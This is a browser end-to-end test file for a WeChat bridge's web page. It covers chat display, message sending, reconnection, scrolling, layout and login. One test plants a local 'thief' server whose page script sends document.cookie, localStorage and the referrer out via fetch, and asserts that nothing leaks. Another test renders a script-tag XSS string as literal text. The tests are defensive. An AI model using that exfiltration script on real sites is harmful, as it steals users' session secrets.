import { once } from 'node:events'
import { mkdir } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { contactId, mediaId } from '../../src/core/ids.ts'
import { hills } from '../adapters/web/hills.ts'
import {
  account,
  logIn,
  makeWorld,
  never,
  type RunningHub,
  runHub,
  type World,
} from '../adapters/web/page-client.ts'
import {
  acceptText,
  chats,
  fill,
  keepPicture,
  lin,
  recall,
  say,
  sayPicture,
} from '../adapters/web/page-content.ts'
import { until } from '../support/until.ts'
import { desktop, launch, phone, remembered } from './page-browser.ts'
import { chromiumPath } from './setup.ts'

const executablePath = chromiumPath()
const screenshots = join(tmpdir(), 'wechat-bridge-screenshots')

describe.skipIf(!executablePath)('the page in a real browser', () => {
  let browser: Browser
  let world: World
  let running: RunningHub
  /** A browser's memory of having been let in. */
  let storageState: ReturnType<typeof remembered>
  let context: BrowserContext
  /** What the browser complained about: a policy broken, an exception, a failed load. */
  let complaints: string[]

  beforeAll(async () => {
    await mkdir(screenshots, { recursive: true })
    browser = await launch(executablePath!)
  })
  afterAll(() => browser?.close())

  beforeEach(async () => {
    complaints = []
    world = await makeWorld()
    await start({ sandbox: true })
    await fill(world, running.hub)
    storageState = remembered(running.home, await logIn(running))
  })
  afterEach(async () => {
    await context?.close()
    await running.stop()
    await world.drop()
  })

  async function start(options: object): Promise<void> {
    running = await runHub(world, options)
    await running.hub.showLogin(
      { state: 'online', account, me: { id: contactId('wx:100/me'), name: '林间' } },
      never,
    )
  }

  async function open(more: object = desktop, where = ''): Promise<Page> {
    context = await browser.newContext({ locale: 'en-GB', storageState, ...more })
    const page = await context.newPage()
    page.on('console', (line) => {
      if (line.type() === 'error' || line.type() === 'warning') complaints.push(line.text())
    })
    page.on('pageerror', (error) => complaints.push(String(error)))
    page.on('dialog', (dialog) => {
      complaints.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await page.goto(`${running.home}/${where}`)
    await page.waitForSelector('.entry', { state: 'attached' })
    return page
  }

  /** What the person did, beside reading. */
  const told = () => running.events.filter((event) => event.type !== 'read')
  const to = (chat: { id: string }) => `#/chat/${encodeURIComponent(chat.id)}`
  const shot = (page: Page, name: string) =>
    page.screenshot({ path: join(screenshots, `${name}.png`) })
  const bubbles = (page: Page) => page.locator('.bubble .text').allTextContents()

  it('lets a browser in with the printed address, once', async () => {
    await running.stop()
    await start({})
    context = await browser.newContext(desktop)
    const page = await context.newPage()
    await page.goto(await running.hub.address)
    await page.waitForSelector('.entry')
    expect(page.url()).toBe(`${running.home}/`)
    await page.reload()
    await page.waitForSelector('.entry')
    const [cookie] = await context.cookies()
    expect(cookie?.path).toBe(new URL(`${running.home}/`).pathname)
    const other = await (await browser.newContext(desktop)).newPage()
    await other.goto(await running.hub.address)
    await other.getByText('That address has been used already').waitFor()
    await other.context().close()
  })

  it('shows a friend, a group, an MP, a picture, and recalls with their originals', async () => {
    const page = await open()
    for (const name of ['林晓', '周末徒步 Hikers', '晨光日报']) {
      await page.locator('.entry', { hasText: name }).waitFor()
    }
    await page.locator('.banner', { hasText: 'Sandbox' }).waitFor()
    await page.locator('.entry', { hasText: '林晓' }).click()
    const slip = page.locator('.recall')
    await slip.getByText('林晓 recalled a message').waitFor()
    await slip.getByText('其实我还没出门…别告诉阿梅').waitFor()
    expect(await page.locator('.bubble.recalled').textContent()).toContain('别告诉阿梅')
    await page.locator('.entry', { hasText: 'Hikers' }).click()
    await page.locator('.recall .picture.loaded').waitFor()
    const width = await page
      .locator('.recall .picture img')
      .evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth)
    expect(width).toBe(420)
    expect(await page.locator('.name').first().textContent()).toBe('阿梅')
    expect(complaints).toEqual([])
  })

  it('tells how far each of my messages got, and sends again what was given up', async () => {
    const page = await open(desktop, to(chats.lin))
    const mine = page.locator('.message.mine')
    await mine.filter({ hasText: '热茶' }).locator('.tick').waitFor()
    await mine.filter({ hasText: '马上到' }).getByText('Waiting in line').waitFor()
    await mine.filter({ hasText: 'at nine' }).getByText('May not have been sent').waitFor()
    const dead = mine.filter({ hasText: '橙子' })
    await dead.getByText('WeChat answered 1201').waitFor()
    await dead.getByRole('button', { name: 'Send again' }).click()
    await until(() => told().length, 'the command')
    expect(told()).toMatchObject([
      { type: 'command', words: ['resend', expect.stringMatching(/^\d+$/)] },
    ])
  })

  it('shows what arrives, is recalled, or changes, without being loaded again', async () => {
    const page = await open(desktop, to(chats.lin))
    await page.locator('.bubble', { hasText: '我已经在车上了' }).waitFor()
    await page.evaluate('window.untouched = true')
    const message = await say(world, 'lin', lin, 'I can see you <from> here')
    await page.locator('.bubble', { hasText: 'I can see you <from> here' }).waitFor()
    await recall(world, message)
    await page.locator('.bubble.recalled', { hasText: 'I can see you' }).waitFor()
    await page.locator('.recall', { hasText: 'I can see you <from> here' }).waitFor()
    await say(world, 'paper', lin, 'Elsewhere')
    await page.locator('.entry.unread', { hasText: 'Elsewhere' }).waitFor()
    await running.hub.showLogin({ state: 'offline', reason: 'kicked', relogin: true }, never)
    await page.locator('.status.offline').waitFor()
    expect(await page.evaluate('window.untouched')).toBe(true)
    expect(complaints).toEqual([])
  })

  it('hands over what is typed, and shows it through to its delivery', async () => {
    const page = await open(desktop, to(chats.lin))
    await page.getByLabel('Write a message').fill('first line')
    await page.keyboard.press('Shift+Enter')
    await page.keyboard.type('second <b>line</b>')
    await page.keyboard.press('Enter')
    const event = await until(() => told()[0], 'the event')
    expect(event).toMatchObject({ type: 'message', text: 'first line\nsecond <b>line</b>' })
    await page.locator('.pending', { hasText: 'second <b>line</b>' }).waitFor()
    expect(await page.getByLabel('Write a message').inputValue()).toBe('')
    await acceptText(world, 'lin', event.id, 'first line\nsecond <b>line</b>')
    await page.locator('.pending').waitFor({ state: 'detached' })
    expect((await bubbles(page)).filter((text) => text.includes('second'))).toHaveLength(1)
  })

  it.each([
    ['stays open', false],
    ['is closed and opened again', true],
  ])('keeps what is typed while the bridge is away, when the page %s', async (_, leaves) => {
    const page = await open(desktop, to(chats.lin))
    await page.locator('.bubble', { hasText: '我已经在车上了' }).waitFor()
    const port = Number(new URL(running.origin).port)
    await running.stop()
    await page.getByText('Connection to the bridge lost').waitFor()
    for (const words of ['one', 'two', 'three']) {
      await page.getByLabel('Write a message').fill(words)
      await page.keyboard.press('Enter')
    }
    await page.locator('.pending', { hasText: 'one' }).getByText('trying again').waitFor()
    if (leaves) await page.goto('about:blank')
    await start({ port })
    running.refuse(1)
    if (leaves) await page.goto(`${running.home}/${to(chats.lin)}`)
    await until(() => told().length === 3, 'all three', 40_000)
    expect(told().map((event) => event.type === 'message' && event.text)).toEqual([
      'one',
      'two',
      'three',
    ])
  })

  it('sends a picture that is chosen, and answers a message', async () => {
    const page = await open(desktop, to(chats.lin))
    const bubble = page.locator('.message', { hasText: 'Are you bringing the thermos' }).first()
    await bubble.hover()
    await bubble.getByLabel('Reply').click()
    await page.locator('.answering', { hasText: 'thermos' }).waitFor()
    const buffer = Buffer.from(hills(300, 200, 4))
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'hills.png', mimeType: 'image/png', buffer })
    await page.locator('.attached img').waitFor()
    await shot(page, 'desktop-attaching')
    await page.getByLabel('Send', { exact: true }).click()
    const event = await until(() => told()[0], 'the picture')
    if (event.type !== 'message' || !event.media) throw new Error('no picture')
    expect(event.replyTo).toContain('post/portallinxxx/')
    const opened = await running.hub.download(event.media, never)
    expect(Buffer.from(await new Response(opened.stream).bytes()).equals(buffer)).toBe(true)
    expect(complaints).toEqual([])
  })

  it('does not take Enter for sending while an input method picks a word', async () => {
    const page = await open(desktop, to(chats.lin))
    const box = page.getByLabel('Write a message')
    await box.fill('nihao')
    await page.evaluate(`document.querySelector('.composer textarea').dispatchEvent(
      new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true }))`)
    expect(await box.inputValue()).toBe('nihao')
    await page.keyboard.press('Enter')
    const event = await until(() => told()[0], 'one event')
    expect(event).toMatchObject({ text: 'nihao' })
    expect(told()).toHaveLength(1)
  })

  it('stays where one reads when something arrives, and at the bottom when one is there', async () => {
    const page = await open(desktop, to(chats.hikers))
    const place = () =>
      page.locator('.messages').evaluate((box) => ({
        top: Math.round(box.scrollTop),
        below: Math.round(box.scrollHeight - box.scrollTop - box.clientHeight),
      }))
    await page.locator('.recall .picture.loaded').waitFor()
    await until(async () => (await place()).below < 2, 'the bottom')
    await say(world, 'hikers', lin, 'at the bottom')
    await page.locator('.bubble', { hasText: 'at the bottom' }).waitFor()
    await until(async () => (await place()).below < 2, 'the bottom again')
    await page.locator('.messages').evaluate((box) => box.scrollTo(0, 40))
    await page.getByText('To the latest').waitFor()
    const before = (await place()).top
    await say(world, 'hikers', lin, 'far below')
    await page.getByText('1 new').waitFor()
    expect((await place()).top).toBe(before)
    await page.getByText('1 new').click()
    await until(async () => (await place()).below < 2, 'the latest')
  })

  it('loads what is older when one scrolls up, and stays in place', async () => {
    for (let i = 0; i < 120; i++) await say(world, 'eve', lin, `number ${i}`)
    const page = await open(desktop, to(chats.eve))
    await page.locator('p.text', { hasText: /^number 119$/ }).waitFor()
    expect(await page.locator('p.text', { hasText: /^number 40$/ }).count()).toBe(0)
    const box = page.locator('.messages')
    const number85 = `[...document.querySelectorAll('p.text')]
      .find((text) => text.textContent === 'number 85').getBoundingClientRect().top`
    const before = await page.evaluate<number>(
      `document.querySelector('.messages').scrollTo(0, 250), ${number85}`,
    )
    await page.locator('p.text', { hasText: /^number 60$/ }).waitFor()
    expect(Math.abs((await page.evaluate<number>(number85)) - before)).toBeLessThan(4)
    await box.evaluate((element) => element.scrollTo(0, 0))
    await box.evaluate((element) => element.scrollTo(0, 0))
    await page.locator('p.text', { hasText: /^number 10$/ }).waitFor()
  })

  it('shows a picture that is still being fetched as soon as it is kept', async () => {
    const page = await open(desktop, to(chats.lin))
    const ref = await sayPicture(world, 'lin', lin, 'media/late')
    await page.getByText('The picture is being fetched').waitFor()
    await keepPicture(world, ref.id, hills(200, 100, 7))
    await page.locator('.picture.loaded').waitFor()
  })

  it('shows a picture and an avatar the moment they are kept, without asking in between', async () => {
    const page = await open(desktop, to(chats.lin))
    await page.locator('.bubble', { hasText: '我已经在车上了' }).waitFor()
    // What would ask again by itself, or be drawn by chance, never comes.
    await page.evaluate(`{
      const real = setTimeout
      window.setTimeout = (work, ms, ...more) => ms >= 500 ? 0 : real(work, ms, ...more)
      window.untouched = true
    }`)
    const missing = new Set<string>()
    page.on('response', (answer) => {
      const { pathname, searchParams } = new URL(answer.url())
      if (pathname.endsWith('/api/media') && answer.status() === 404)
        missing.add(searchParams.get('id') ?? '')
    })
    const other = await keepPicture(world, 'media/other', hills(9, 9, 1))
    const avatar = { ...other, id: mediaId('media/face') }
    await say(world, 'lin', { ...lin, avatar }, 'look at me')
    const ref = await sayPicture(world, 'lin', lin, 'media/late')
    await page.getByText('The picture is being fetched').waitFor()
    await until(() => missing.size === 2, 'both to be asked for in vain')
    await keepPicture(world, 'media/face', hills(40, 40, 5))
    await page.locator('.messages .avatar img').waitFor()
    expect(await page.locator('.picture.loaded').count()).toBe(0)
    await keepPicture(world, ref.id, hills(200, 100, 7))
    await page.locator('.picture.loaded').waitFor()
    expect(await page.evaluate('window.untouched')).toBe(true)
  })

  it('gives another port of this machine no cookie, no key and not its address', async () => {
    const asked: string[] = []
    const thief = createServer((request, answer) => {
      asked.push(JSON.stringify([request.url, request.headers]))
      answer.setHeader('content-type', 'text/html')
      if (request.url === '/lure') answer.writeHead(302, { location: '/second' })
      answer.end(
        request.url === '/second'
          ? `<script>
              fetch('/fetched', { credentials: 'include', headers: {
                'X-Found': document.cookie + JSON.stringify(localStorage) + document.referrer } })
                .then(() => location.assign('/login/'))
            </script>`
          : '',
      )
    }).listen(0, '127.0.0.1')
    await once(thief, 'listening')
    const lure = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/lure`
    await running.stop()
    await start({})
    await say(world, 'lin', lin, `Look: ${lure}`)
    context = await browser.newContext(desktop)
    const page = await context.newPage()
    await page.goto(await running.hub.address)
    await page.locator('.entry', { hasText: '林晓' }).click()
    const opened = context.waitForEvent('page')
    await page.locator('.text a', { hasText: lure }).click()
    await (await opened).waitForURL('**/login/')
    await page.evaluate(`location.assign(${JSON.stringify(lure)})`)
    await page.waitForURL('**/login/')
    await page.goto(`${running.home}/`)
    await page.waitForSelector('.entry')
    const { cookies, origins } = await context.storageState()
    const keys = origins.flatMap((one) => one.localStorage.filter(({ name }) => /^key:/.test(name)))
    const secrets = [...cookies, ...keys].map((one) => one.value)
    expect(secrets).toHaveLength(2)
    expect(asked.filter((one) => one.includes('/fetched'))).toHaveLength(2)
    for (const secret of [...secrets, new URL(running.home).pathname]) {
      expect(secret.length).toBeGreaterThan(26)
      expect(asked.filter((one) => one.includes(secret))).toEqual([])
    }
    expect(asked.filter((one) => one.includes('"cookie"'))).toEqual([])
    const { host } = new URL(running.origin)
    expect(asked.filter((one) => one.includes(host))).toEqual([])
    thief.close()
    thief.closeAllConnections()
  })

  it('keeps nothing a script could use alone, and locks itself when its key is gone', async () => {
    const page = await open()
    const [cookie] = storageState.cookies
    const kept = await page.evaluate<string>(
      'JSON.stringify([localStorage, sessionStorage, document.cookie])',
    )
    expect(kept).not.toContain(cookie?.value)
    expect(kept).toContain(storageState.origins[0]?.localStorage[0]?.value)
    await page.evaluate('localStorage.clear()')
    await page.reload()
    await page.getByText('This browser is not let in yet').waitFor()
  })

  it('shows hostile names and texts literally', async () => {
    const page = await open(desktop, to(chats.eve))
    expect(await page.locator('.head h2').textContent()).toBe(chats.eve.name)
    await page.locator('.text', { hasText: '<script>alert("hi")</script>' }).waitFor()
    expect(complaints).toEqual([])
  })

  it('shows the login code, who scanned, and a way to log in and out', async () => {
    const page = await open(phone, '#/bridge')
    await running.hub.showLogin({ state: 'scan', qr: 'https://login.example/1', attempt: 1 }, never)
    await page.locator('img.code').waitFor()
    await shot(page, 'phone-code')
    await running.hub.showLogin({ state: 'scanned' }, never)
    await page.getByText('One more tap').waitFor()
    expect(await page.locator('img.code').count()).toBe(0)
    await running.hub.showLogin({ state: 'offline', reason: 'kicked', relogin: true }, never)
    await page.getByRole('button', { name: 'Log in' }).click()
    await until(() => told().length, 'the command')
    const me = { id: contactId('wx:100/me'), name: '<i>Me</i>' }
    await running.hub.showLogin({ state: 'online', account, me }, never)
    await page.getByRole('heading', { name: '<i>Me</i>' }).waitFor()
    await page.getByRole('button', { name: 'Log out of WeChat' }).click()
    await page.getByText('you will have to scan a new code').waitFor()
    await page.getByRole('button', { name: 'Log out of WeChat' }).click()
    await until(() => told().length === 2, 'the second command')
    expect(told()).toMatchObject([
      { type: 'command', words: ['login'] },
      { type: 'command', words: ['logout'] },
    ])
  })

  it('shows the login first when there is nothing to read, and the chats once there are', async () => {
    await running.stop()
    await world.drop()
    world = await makeWorld()
    running = await runHub(world)
    await running.hub.showLogin({ state: 'scan', qr: 'https://login.example/1', attempt: 1 }, never)
    context = await browser.newContext(phone)
    const page = await context.newPage()
    await page.goto(await running.hub.address)
    await page.locator('img.code').waitFor()
    const me = { id: contactId('wx:100/me'), name: 'Me' }
    await running.hub.showLogin({ state: 'online', account, me }, never)
    await page.getByRole('heading', { name: 'Me' }).waitFor()
    await fill(world, running.hub)
    await page.locator('.entry', { hasText: '林晓' }).waitFor()
    expect(await page.locator('.main').isVisible()).toBe(false)
  })

  it('is one pane with a way back on a phone, and speaks Chinese when asked', async () => {
    const page = await open({ ...phone, colorScheme: 'dark' })
    expect(await page.locator('.main').isVisible()).toBe(false)
    await page.locator('.entry', { hasText: '林晓' }).tap()
    await page.locator('.message').first().waitFor()
    expect(await page.locator('.list').isVisible()).toBe(false)
    await page.getByLabel('Back to the chats').tap()
    await page.getByRole('button', { name: '切换到中文' }).tap()
    await page.getByText('这里的人都是虚构的').waitFor()
    await page.locator('.entry', { hasText: 'Tom Becker撤回了一条消息' }).waitFor()
    expect(await page.evaluate('document.documentElement.lang')).toBe('zh-Hans')
  })

  it.each([
    ['desktop', 'light', desktop],
    ['desktop', 'dark', desktop],
    ['phone', 'light', phone],
    ['phone', 'dark', phone],
  ] as const)('fits a %s in %s colours', async (name, colorScheme, device) => {
    const page = await open({ ...device, colorScheme }, to(chats.lin))
    await page.locator('.message').first().waitFor()
    const looks = await page.evaluate<{ wide: number; paper: string }>(`({
      wide: document.documentElement.scrollWidth - innerWidth,
      paper: getComputedStyle(document.body).backgroundColor,
    })`)
    expect(looks.wide).toBeLessThanOrEqual(0)
    const [red = 0] = /\d+/.exec(looks.paper)?.map(Number) ?? []
    if (colorScheme === 'dark') expect(red).toBeLessThan(60)
    else expect(red).toBeGreaterThan(200)
    await shot(page, `${name}-${colorScheme}-friend`)
    await page.goto(`${running.home}/${to(chats.hikers)}`)
    await page.locator('.recall .picture.loaded').waitFor()
    await shot(page, `${name}-${colorScheme}-group`)
    expect(complaints).toEqual([])
  })
})
